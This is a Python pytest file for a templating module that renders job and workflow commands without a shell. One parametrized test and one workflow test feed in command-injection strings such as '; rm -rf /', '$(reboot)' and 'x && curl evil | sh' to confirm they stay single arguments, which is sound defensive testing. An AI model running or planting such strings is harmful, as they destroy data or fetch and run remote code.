"""Templates: parameter schemas, their values, and substitution that never passes through a shell."""

from __future__ import annotations

import copy

import pytest

from baton.errors import Unprocessable
from baton.templating import Template, parse_template

PARAMETERS = {
    "type": "object",
    "properties": {
        "host": {"type": "string", "minLength": 1},
        "count": {"type": "integer", "minimum": 1, "default": 3},
        "verbose": {"type": "boolean", "default": False},
        "tags": {"type": "array", "items": {"type": "string"}, "default": []},
        "options": {
            "type": "object",
            "default": {},
            "properties": {"depth": {"type": "integer", "default": 2}},
        },
    },
    "required": ["host"],
}

PING = {
    "name": "ping-tpl",
    "parameters": PARAMETERS,
    "job": {
        "name": "ping {{host}}",
        "queue": "default",
        "command": ["ping", "-c", {"$param": "count"}, "{{ host }}"],
        "max_retries": {"$param": "count"},
        "labels": {"target": "{{host}}", "team": "net"},
        "payload": {"target": "host={{host}}", "tags": {"$param": "tags"}, "nested": [{"v": "{{verbose}}"}]},
    },
}


def template(**changes) -> Template:
    body = copy.deepcopy(PING)
    body.update(changes)
    return parse_template(body)


def creation_errors(body: dict) -> list[dict[str, str]]:
    with pytest.raises(Unprocessable) as caught:
        parse_template(body)
    assert caught.value.code == "INVALID_TEMPLATE"
    assert caught.value.status == 422
    return caught.value.errors


def value_errors(tpl: Template, values: object) -> list[dict[str, str]]:
    with pytest.raises(Unprocessable) as caught:
        tpl.render(values)
    assert caught.value.code == "INVALID_TEMPLATE_PARAMETERS"
    return caught.value.errors


# -- rendering ---------------------------------------------------------------------------------


def test_render_fills_markers_and_defaults() -> None:
    job = template().render({"host": "example.com"})
    assert job == {
        "name": "ping example.com",
        "queue": "default",
        "command": ["ping", "-c", "3", "example.com"],
        "max_retries": 3,  # a whole-value marker keeps the JSON type
        "labels": {"target": "example.com", "team": "net"},
        "payload": {"target": "host=example.com", "tags": [], "nested": [{"v": "false"}]},
    }


def test_nested_defaults_are_applied() -> None:
    tpl = template()
    assert tpl.resolve({"host": "h"})["options"] == {"depth": 2}
    assert tpl.resolve({"host": "h", "options": {"depth": 7}})["options"] == {"depth": 7}


@pytest.mark.parametrize(
    "hostile",
    [
        "; rm -rf /",
        "a b c",
        "$(reboot)",
        "`id`",
        "x && curl evil | sh",
        "line1\nline2",
        "'quoted' \"twice\"",
        "{{count}}",
        "--output=/etc/passwd",
    ],
)
def test_a_hostile_value_stays_one_argument(hostile: str) -> None:
    job = template().render({"host": hostile})
    assert job["command"] == ["ping", "-c", "3", hostile]  # same length: nothing split, nothing joined
    assert job["labels"]["target"] == hostile
    assert job["name"] == f"ping {hostile}"  # one pass: `{{count}}` in a value is not expanded again
    whole = template(job={"command": ["echo", {"$param": "host"}, "--"]}).render({"host": hostile})
    assert whole["command"] == ["echo", hostile, "--"]


def test_a_value_that_looks_like_a_marker_is_kept_literally() -> None:
    parameters = copy.deepcopy(PARAMETERS)
    parameters["properties"]["tags"] = {"type": "array"}
    job = template(parameters=parameters).render({"host": "h", "tags": [{"$param": "host"}, "{{host}}"]})
    assert job["payload"]["tags"] == [{"$param": "host"}, "{{host}}"]


def test_rendering_does_not_touch_the_template() -> None:
    tpl = template()
    before = copy.deepcopy(tpl.body)
    first = tpl.render({"host": "a", "tags": ["x"]})
    first["payload"]["tags"].append("mutated")
    second = tpl.render({"host": "b"})
    assert tpl.body == before
    assert second["payload"]["tags"] == []


def test_escaped_and_foreign_braces_stay() -> None:
    body = {
        "name": "t",
        "parameters": {"type": "object", "properties": {"host": {"type": "string"}}},
        "job": {"command": ["docker", "ps", "--format", "{{.Names}}", "{{{{host}}", "{{ host }}"]},
    }
    job = parse_template(body).render({"host": "h"})
    assert job["command"] == ["docker", "ps", "--format", "{{.Names}}", "{{host}}", "h"]


def test_a_whole_argument_must_be_scalar() -> None:
    body = copy.deepcopy(PING)
    body["parameters"]["properties"]["tags"] = {"type": "array"}
    body["job"]["command"] = ["echo", {"$param": "tags"}]
    errors = value_errors(parse_template(body), {"host": "h", "tags": ["a", "b"]})
    message = "parameter 'tags' fills one command argument: give text or a number"
    assert {"field": "job.command.1", "message": message} in errors


def test_a_whole_command_parameter_must_stay_an_argv_list() -> None:
    body = copy.deepcopy(PING)
    body["parameters"] = {"type": "object", "properties": {"argv": {"type": "array"}}}
    body["job"] = {"command": {"$param": "argv"}}
    tpl = parse_template(body)
    assert tpl.render({"argv": ["ls", "-l", "my dir"]})["command"] == ["ls", "-l", "my dir"]
    errors = value_errors(tpl, {"argv": ["ls", 5]})
    assert errors == [{"field": "job.command", "message": "a command is a list of strings, one per argument"}]


def test_a_list_cannot_be_put_into_text() -> None:
    body = copy.deepcopy(PING)
    body["job"]["name"] = "tags {{tags}}"
    errors = value_errors(parse_template(body), {"host": "h", "tags": ["a"]})
    assert errors[0]["field"] == "job.name"


# -- parameter values ---------------------------------------------------------------------------


def test_values_are_validated_with_their_paths() -> None:
    errors = value_errors(template(), {"count": 0, "tags": ["ok", 7], "verbose": "yes"})
    assert [e["field"] for e in errors] == [
        "parameters.host",
        "parameters.count",
        "parameters.tags.1",
        "parameters.verbose",
    ]
    assert "required" in errors[0]["message"]


def test_formats_are_checked() -> None:
    body = copy.deepcopy(PING)
    body["parameters"] = {"type": "object", "properties": {"host": {"type": "string", "format": "date"}}}
    body["job"] = {"command": ["echo", "{{host}}"]}
    errors = value_errors(parse_template(body), {"host": "2024-13-40"})
    assert errors[0]["field"] == "parameters.host"


def test_undeclared_values_are_refused_when_the_schema_says_so() -> None:
    body = copy.deepcopy(PING)
    body["parameters"] = {**PARAMETERS, "additionalProperties": False}
    errors = value_errors(parse_template(body), {"host": "h", "hots": "typo"})
    assert errors[0]["field"] == "parameters.hots"
    assert "hots" in errors[0]["message"]


@pytest.mark.parametrize("values", [None, [], "host=h"])
def test_values_must_be_an_object(values: object) -> None:
    assert value_errors(template(), values) == [{"field": "parameters", "message": "parameters is an object"}]


# -- template creation -------------------------------------------------------------------------


def test_markers_naming_undeclared_parameters_are_refused() -> None:
    body = copy.deepcopy(PING)
    body["job"]["command"] = ["ping", {"$param": "hots"}, "{{cnt}}"]
    assert creation_errors(body) == [
        {"field": "job.command.1", "message": "$param names undeclared parameter 'hots'"},
        {"field": "job.command.2", "message": "{{cnt}} names undeclared parameter 'cnt'"},
    ]


def test_interpolation_only_where_allowed() -> None:
    body = copy.deepcopy(PING)
    body["job"]["queue"] = "q-{{host}}"
    assert creation_errors(body) == [
        {
            "field": "job.queue",
            "message": "{{…}} is replaced only in name, command arguments, label values and payload",
        }
    ]


def test_a_marker_stands_alone() -> None:
    body = copy.deepcopy(PING)
    body["job"]["max_retries"] = {"$param": "count", "extra": 1}
    assert creation_errors(body)[0]["field"] == "job.max_retries"


@pytest.mark.parametrize(
    ("parameters", "field"),
    [
        ({"type": "object", "properties": {"a": {"type": "strin"}}}, "parameters.properties.a.type"),
        (
            {"type": "object", "properties": {"a": {"type": "string", "pattern": "("}}},
            "parameters.properties.a.pattern",
        ),
        ({"type": "string"}, "parameters"),
        ([], "parameters"),
        ({"type": "object", "$schema": "http://json-schema.org/draft-07/schema#"}, "parameters.$schema"),
        (
            {"type": "object", "properties": {"a": {"$ref": "https://example.com/s.json"}}},
            "parameters.properties.a.$ref",
        ),
        (
            {"type": "object", "properties": {"a": {"type": "integer", "default": "x"}}},
            "parameters.properties.a.default",
        ),
        ({"type": "object", "properties": {"my-param": {}}}, "parameters.properties.my-param"),
    ],
)
def test_bad_parameter_schemas(parameters: object, field: str) -> None:
    body = {"name": "t", "parameters": parameters, "job": {"command": ["true"]}}
    assert creation_errors(body)[0]["field"] == field


def test_a_local_reference_works() -> None:
    body = {
        "name": "t",
        "parameters": {
            "type": "object",
            "$defs": {"port": {"type": "integer", "maximum": 65535}},
            "properties": {"port": {"$ref": "#/$defs/port", "default": 80}},
        },
        "job": {"command": ["nc", "-z", "localhost", {"$param": "port"}]},
    }
    tpl = parse_template(body)
    assert tpl.render({})["command"] == ["nc", "-z", "localhost", "80"]
    assert value_errors(tpl, {"port": 70000})[0]["field"] == "parameters.port"


@pytest.mark.parametrize("kinds", [{}, {"job": {}, "workflow": {}}, {"job": "echo"}])
def test_exactly_one_job_or_workflow(kinds: dict) -> None:
    assert creation_errors({"name": "t", **kinds})[0]["field"] == "job"


# -- workflow templates ---------------------------------------------------------------------------


WORKFLOW = {
    "name": "etl",
    "parameters": {
        "type": "object",
        "properties": {"day": {"type": "string"}, "shards": {"type": "integer", "default": 4}},
    },
    "workflow": {
        "name": "etl {{day}}",
        "steps": [
            {"name": "extract", "job": {"command": ["extract", "--day", "{{day}}", {"$param": "shards"}]}},
            {
                "name": "load",
                "job": {"command": ["load", "{{day}}"], "payload": {"n": {"$param": "shards"}}},
                "depends_on": ["extract"],
            },
        ],
        "phases": [{"name": "all", "steps": ["extract", "load"]}],
    },
}


def test_a_workflow_template_renders() -> None:
    workflow = parse_template(copy.deepcopy(WORKFLOW)).render({"day": "2024-05-01; reboot"})
    assert workflow["name"] == "etl 2024-05-01; reboot"
    assert workflow["steps"][0]["job"]["command"] == ["extract", "--day", "2024-05-01; reboot", "4"]
    assert workflow["steps"][1]["job"]["payload"] == {"n": 4}
    assert workflow["steps"][1]["depends_on"] == ["extract"]


def test_a_workflow_name_may_be_a_whole_parameter() -> None:
    body = copy.deepcopy(WORKFLOW)
    body["workflow"]["name"] = {"$param": "day"}
    assert parse_template(body).render({"day": "may-1"})["name"] == "may-1"


def test_a_workflow_shape_stays_literal() -> None:
    body = copy.deepcopy(WORKFLOW)
    body["workflow"]["steps"][1]["depends_on"] = [{"$param": "day"}]
    assert creation_errors(body)[0]["field"] == "workflow.steps.1.depends_on.0"


def test_a_workflow_template_is_checked_when_created() -> None:
    body = copy.deepcopy(WORKFLOW)
    body["workflow"]["steps"][0]["depends_on"] = ["load"]
    [error] = creation_errors(body)
    assert error["field"] == "workflow.steps.0.depends_on"
    assert "extract -> load -> extract" in error["message"]
